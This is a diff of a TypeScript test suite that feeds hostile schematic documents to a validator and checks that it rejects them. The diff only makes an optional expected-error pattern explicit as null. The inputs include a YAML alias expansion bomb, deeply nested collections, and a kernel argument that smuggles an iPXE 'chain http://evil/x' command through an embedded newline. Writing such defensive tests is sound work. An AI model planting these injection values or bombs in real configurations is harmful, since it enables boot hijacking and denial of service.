@@ -48,28 +48,28 @@ const aliasBomb = [
   'overlay:\n  image: x\n  name: y\n  options:\n    bomb: [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
 ].join('\n')
 
-const HOSTILE: [string, string, RegExp?][] = [
+const HOSTILE: [string, string, RegExp | null][] = [
   ['malformed YAML', 'customization: [\n', /yaml|did not find|parse/i],
-  ['tab-indented YAML', 'customization:\n\textraKernelArgs: [a]\n'],
+  ['tab-indented YAML', 'customization:\n\textraKernelArgs: [a]\n', null],
   ['unknown top-level field', 'something: 1\n', /field something not found in type schematic\.Schematic/],
   ['unknown nested field', 'customization:\n  extraKernelArg: [a]\n', /field extraKernelArg not found in type schematic\.Customization/],
   ['unknown meta field', 'customization:\n  meta:\n    - key: 1\n      value: x\n      extra: y\n', /schematic\.MetaValue/],
   ['wrong type: string for list', 'customization:\n  extraKernelArgs: x\n', /cannot construct/],
   ['wrong type: quoted bool', 'customization:\n  secureboot:\n    includeWellKnownCertificates: "true"\n', /cannot construct/],
   ['META key 256', 'customization:\n  meta:\n    - key: 256\n      value: x\n', /256/],
-  ['META key -1', 'customization:\n  meta:\n    - key: -1\n      value: x\n'],
-  ['negative sector size', 'customization:\n  diskImage:\n    sectorSize: -1\n'],
+  ['META key -1', 'customization:\n  meta:\n    - key: -1\n      value: x\n', null],
+  ['negative sector size', 'customization:\n  diskImage:\n    sectorSize: -1\n', null],
   ['bootloader auto', 'customization:\n  bootloader: auto\n', /auto does not belong to BootloaderKind values/],
   ['bootloader bogus', 'customization:\n  bootloader: lilo\n', /BootloaderKind/],
   ['owner (community edition)', 'owner: alice\n', /owner field is only supported in Enterprise edition/],
   ['duplicate key', 'customization:\n  extraKernelArgs: [a]\n  extraKernelArgs: [b]\n', /already defined/],
   ['non-mapping document', '[]\n', /cannot construct !!seq into schematic\.Schematic/],
-  ['scalar document', 'hello\n'],
-  ['kernel arg with newline (would break iPXE scripts)', '{"customization":{"extraKernelArgs":["a\\nchain http://evil/x"]}}'],
-  ['kernel arg with carriage return', '{"customization":{"extraKernelArgs":["a\\rb"]}}'],
-  ['kernel arg with NUL', '{"customization":{"extraKernelArgs":["a\\u0000b"]}}'],
-  ['deeply nested flow collections', `overlay:\n  image: x\n  name: y\n  options:\n    deep: ${deep(5000)}\n`],
-  ['alias expansion bomb', aliasBomb],
+  ['scalar document', 'hello\n', null],
+  ['kernel arg with newline (would break iPXE scripts)', '{"customization":{"extraKernelArgs":["a\\nchain http://evil/x"]}}', null],
+  ['kernel arg with carriage return', '{"customization":{"extraKernelArgs":["a\\rb"]}}', null],
+  ['kernel arg with NUL', '{"customization":{"extraKernelArgs":["a\\u0000b"]}}', null],
+  ['deeply nested flow collections', `overlay:\n  image: x\n  name: y\n  options:\n    deep: ${deep(5000)}\n`, null],
+  ['alias expansion bomb', aliasBomb, null],
 ]
 
 describe('hostile schematics', () => {
